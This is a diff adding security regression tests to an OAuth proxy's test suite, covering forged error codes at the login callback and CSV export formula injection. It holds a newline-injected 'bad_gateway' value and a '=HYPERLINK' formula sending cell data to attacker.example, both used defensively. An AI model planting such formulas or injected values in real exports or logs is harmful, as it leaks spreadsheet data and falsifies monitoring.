@@ -9,11 +9,16 @@ hunt of 2026-12-05, each sent on the wire.
 - A refused HTTP/2 request was logged with its raw target: an absolute URL's password too.
 - A Host is a DNS name of at most 253 characters; a 60 KB one was logged and indexed under its
   whole length, four times over, growing the log's Redis past its cap.
+- The browser login's callback answered with the `error` code its query named, so anyone could
+  log `bad_gateway` for an owner's proxy, which /metrics counts as an upstream failure.
+- The CSV export wrote an anonymous `client_id` of `=HYPERLINK(...)` as a spreadsheet formula.
 """
 
 from __future__ import annotations
 
+import csv
 import functools
+import io
 import logging
 from typing import Any
 
@@ -26,13 +31,17 @@ from oauthproxy.models.services import DockerService
 from oauthproxy.serve import Ready
 from oauthproxy.storage import Storage
 from oauthproxy.storage.services import docker_service_url
+from tests import oauth_helpers
 from tests.backend import serve_backend
 from tests.eventually import eventually
+from tests.test_browser_login import APP, site, until_protected
+from tests.test_cli_tokens import Cli, cli
 from tests.test_http2 import SECURE, backend, connected, pki, serve_names, served
 from tests.test_proxies_api import as_new_token
 from tests.tls import TestPKI
 
-__all__ = ["pki"]
+__all__ = ["cli", "pki", "site"]
+github = oauth_helpers.github
 
 
 async def admin_search(gateway: Ready, **params: Any) -> list[dict[str, Any]]:
@@ -172,3 +181,46 @@ async def test_a_host_longer_than_a_dns_name_is_refused_and_not_logged_under_it(
     assert all(len(entry.get("hostname") or "") <= 253 for entry in entries), [
         len(entry.get("hostname") or "") for entry in entries
     ]
+
+
+async def test_the_login_callback_lets_no_client_name_the_reason_logged(
+    site: Ready, storage: Storage
+) -> None:
+    await until_protected(site)
+    url = f"http://127.0.0.1:{site.http_port}/.oauthproxy/callback"
+    async with httpx.AsyncClient() as anonymous:
+        for _ in range(5):
+            answer = await anonymous.get(
+                url, params={"error": "bad_gateway\nforged"}, headers={"Host": APP}
+            )
+            assert answer.status_code == 403
+            assert answer.json()["error"] == "login_refused"
+    headers = {"Authorization": f"Bearer {site.admin_token.secret}"}
+    async with httpx.AsyncClient(base_url=site.api_url, headers=headers) as admin:
+
+        async def scraped() -> str | None:
+            text = (await admin.get("/metrics")).text
+            return text if f'oauthproxy_requests_total{{host="{APP}"' in text else None
+
+        text = await eventually(scraped, what="the callbacks counted")
+    failures = [
+        line for line in text.splitlines() if line.startswith("oauthproxy_upstream_failures_total")
+    ]
+    assert failures == []
+
+
+async def test_the_csv_export_holds_no_formula(cli: Cli, gateway: Ready) -> None:
+    formula = '=HYPERLINK("http://attacker.example/?"&A2,"open")'
+    async with httpx.AsyncClient(base_url=gateway.api_url) as anonymous:
+        await anonymous.get("/authorize", params={"client_id": formula, "response_type": "code"})
+
+    async def exported() -> str | None:
+        text = await cli.ok(
+            "--format", "csv", "log", "recent", "--event", "oauth.authorize_refused"
+        )
+        return text if "HYPERLINK" in text else None
+
+    text = await eventually(exported, what="the /authorize event in the CSV export", within=30)
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + formula in cells
+    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")] == []
